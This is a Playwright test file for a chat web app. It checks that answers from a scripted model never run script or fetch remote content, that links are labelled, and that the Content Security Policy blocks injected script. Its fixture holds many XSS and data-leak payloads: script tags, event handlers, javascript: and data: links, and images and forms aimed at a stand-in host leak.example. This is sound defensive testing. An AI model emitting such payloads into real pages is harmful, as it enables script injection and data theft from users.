import type { Page } from '@playwright/test'

import { askAndWait, chatOf } from './support/chat.ts'
import { expect, test } from './support/journey.ts'
import { changeCredits } from './support/people.ts'

// A live installation whose only model says back what it is asked: the prompt decides every byte of the answer.
test.use({ siteKind: 'scripted' })

test.beforeEach(async ({ person }) => {
  await changeCredits(person, 100)
})

const hostileAnswer = `Here is what you asked for.

<script>window.ran = 'script'</script>
<img src=x onerror="window.ran = 'onerror'">
<svg onload="window.ran = 'svg'"><circle r="9"/></svg>
<iframe srcdoc="<script>parent.ran = 'iframe'</script>"></iframe>
<a href="javascript:window.ran = 'raw link'">raw link</a>
<style>body { background: url(https://leak.example/style) }</style>
<form action="https://leak.example/form"><button>Go</button></form>
<meta http-equiv="refresh" content="0;url=https://leak.example/meta">

[script link](javascript:window.ran='link')
[encoded link](java&#115;cript:window.ran='encoded')
[data link](data:text/html,<script>window.ran='data'</script>)
[honest link](https://example.com/a?b=c)
[pretending link](https://leak.example/?for=https://bank.example)
<https://leak.example/auto>

![a picture](https://leak.example/pixel.png?secret=1)
![data picture](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InBhcmVudC5yYW49J2RhdGEnIi8+)
![by reference][leak]

[leak]: https://leak.example/reference.png

\`\`\`html
<script>window.ran = 'fence'</script>
\`\`\`

\`\`\`mermaid
graph TD; A["<img src=x onerror=window.ran='mermaid'>"] --> B; click A "javascript:window.ran='mermaid click'"
\`\`\`

$\\href{javascript:window.ran='katex'}{x}$ $\\includegraphics{https://leak.example/tex.png}$

| <img src=x onerror="window.ran = 'table'"> | b |
|---|---|
| [x](vbscript:window.ran) | ![t](//leak.example/t.png) |

The end.`

async function whatRan(page: Page): Promise<unknown> {
  return page.evaluate(() => (globalThis as { ran?: unknown }).ran ?? null)
}

test('nothing in an answer runs, and nothing in it is fetched, while it streams and after a reload', async ({
  chatPage: page,
}) => {
  // That nobody else was asked for anything is checked for every journey, when it ends.
  const dialogs: string[] = []
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  const chat = await askAndWait(page, hostileAnswer)
  const answer = chat.answers.first()
  for (const visit of ['as it streamed', 'after a reload']) {
    if (visit === 'after a reload') await page.reload()
    await expect(answer).toContainText('The end.')
    expect(await whatRan(page), visit).toBeNull()
    await expect(answer.locator('script, iframe, object, embed, form, style, meta, base')).toHaveCount(0)
    await expect(answer.locator('img')).toHaveCount(0)
    const addresses = await answer
      .locator('[href], [src], [action], [formaction]')
      .evaluateAll((nodes) =>
        nodes.flatMap((node) =>
          ['href', 'src', 'action', 'formaction'].map((name) => node.getAttribute(name) ?? ''),
        ),
      )
    for (const address of addresses) expect(address).toMatch(/^(https?:\/\/|mailto:|#|$)/)
    const handlers = await answer
      .locator('*')
      .evaluateAll((nodes) =>
        nodes.flatMap((node) => node.getAttributeNames().filter((name) => /^on/i.test(name))),
      )
    expect(handlers).toEqual([])
  }
  expect(dialogs).toEqual([])
})

test('a link in an answer says where it leads, and opens apart from this page', async ({
  chatPage: page,
}) => {
  const chat = await askAndWait(
    page,
    'See [the manual](https://example.com/manual) and ![a cat](https://cats.example/cat.png).',
  )
  const link = chat.answers.getByRole('link', { name: /the manual/ })
  await expect(link).toContainText('(example.com)')
  await expect(link).toHaveAttribute('rel', /noopener/)
  await expect(link).toHaveAttribute('target', '_blank')
  await expect(chat.answers.getByText(/Picture, not loaded: a cat/)).toBeVisible()
  await expect(chat.answers.getByRole('link', { name: /a cat/ })).toContainText('(cats.example)')
})

test('words of a prompt and of a title are shown, never run', async ({ chatPage: page }) => {
  const hostile = `<img src=x onerror="window.ran='prompt'"><b>bold</b>`
  const chat = await askAndWait(page, hostile)
  await expect(chat.log.getByText(hostile).first()).toBeVisible()
  await page.getByRole('navigation', { name: 'Conversations' }).getByRole('link').first().waitFor()
  await page.reload()
  await expect(chatOf(page).receipts).toBeVisible()
  expect(await whatRan(page)).toBeNull()
})

test('the policy of the page stops a script that got in anyhow', async ({ chatPage: page, watch }) => {
  watch.expectComplaint(/inline script violates the following Content Security Policy/)
  const violation = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective))
        const script = document.createElement('script')
        script.textContent = "window.ran = 'injected'"
        document.body.append(script)
      }),
  )
  expect(violation).toBe('script-src-elem')
  expect(await whatRan(page)).toBeNull()
})

test('a live installation shows no word of the sandbox, and asks for the address to be confirmed', async ({
  chatPage: page,
}) => {
  await expect(page.getByText(/sandbox/i)).toHaveCount(0)
  await page.goto('/verify/')
  await expect(page.getByRole('heading', { name: 'Confirm your address' })).toBeVisible()
})
